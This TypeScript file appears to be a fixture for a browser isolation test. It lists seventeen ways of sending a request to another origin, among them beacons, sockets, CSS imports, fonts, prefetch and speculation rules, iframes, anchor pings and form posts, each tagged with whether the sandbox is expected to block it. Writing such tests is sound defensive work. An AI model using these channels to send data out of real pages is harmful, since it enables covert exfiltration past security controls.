import type { Attack } from './attack';

/** Ways to send data to another origin; each requests its own name there. */
export const CHANNELS: readonly Attack[] = [
  { name: 'fetch', outcome: 'held', run: ({ elsewhere }) => fetch(`${elsewhere}/fetch`, { mode: 'no-cors' }) },
  { name: 'beacon', outcome: 'held', run: ({ elsewhere }) => navigator.sendBeacon(`${elsewhere}/beacon`, 'x') },
  { name: 'events', outcome: 'held', run: ({ elsewhere }) => void new EventSource(`${elsewhere}/events`) },
  {
    name: 'socket',
    outcome: 'held',
    run: ({ elsewhere }) => void new WebSocket(`${elsewhere.replace('http', 'ws')}/socket`),
  },
  {
    name: 'image',
    outcome: 'held',
    run: ({ elsewhere }) => void Object.assign(new Image(), { src: `${elsewhere}/image` }),
  },
  {
    name: 'background',
    outcome: 'held',
    run: ({ elsewhere }) => document.body.style.setProperty('background-image', `url(${elsewhere}/background)`),
  },
  {
    name: 'style',
    outcome: 'held',
    run: ({ elsewhere }) => {
      const style = document.createElement('style');
      style.append(`@import url(${elsewhere}/style);`);
      const link = Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${elsewhere}/style` });
      document.head.append(style, link);
    },
  },
  { name: 'font', outcome: 'held', run: ({ elsewhere }) => new FontFace('Hostile', `url(${elsewhere}/font)`).load() },
  {
    name: 'media',
    outcome: 'held',
    run: ({ elsewhere }) => Object.assign(document.createElement('audio'), { src: `${elsewhere}/media` }).load(),
  },
  {
    name: 'prefetch',
    outcome: 'held',
    run: ({ elsewhere }) => {
      for (const rel of ['prefetch', 'preload', 'modulepreload', 'manifest'])
        document.head.append(
          Object.assign(document.createElement('link'), { rel, as: 'fetch', href: `${elsewhere}/prefetch` }),
        );
    },
  },
  {
    name: 'speculation',
    outcome: 'held',
    run: ({ elsewhere }) => {
      const script = Object.assign(document.createElement('script'), { type: 'speculationrules' });
      script.append(JSON.stringify({ prefetch: [{ urls: [`${elsewhere}/speculation`] }] }));
      document.head.append(script);
    },
  },
  {
    name: 'frame',
    outcome: 'held',
    run: ({ elsewhere }) =>
      document.body.append(Object.assign(document.createElement('iframe'), { src: `${elsewhere}/frame` })),
  },
  {
    name: 'object',
    outcome: 'held',
    run: ({ elsewhere }) =>
      document.body.append(Object.assign(document.createElement('object'), { data: `${elsewhere}/object` })),
  },
  {
    name: 'ping',
    outcome: 'held',
    run: ({ elsewhere }) =>
      Object.assign(document.createElement('a'), { href: '#ping', ping: `${elsewhere}/ping` }).click(),
  },
  {
    name: 'form',
    outcome: 'held',
    run: ({ elsewhere }) => {
      const form = Object.assign(document.createElement('form'), { action: `${elsewhere}/form`, method: 'post' });
      document.body.append(form);
      form.submit();
    },
  },
  // Outside of tests a browser opens a window only after a click.
  { name: 'window', outcome: 'possible', run: ({ elsewhere }) => void window.open(`${elsewhere}/window`) },
  // The last one: it leaves the page.
  { name: 'navigation', outcome: 'possible', run: ({ elsewhere }) => location.assign(`${elsewhere}/navigation`) },
];
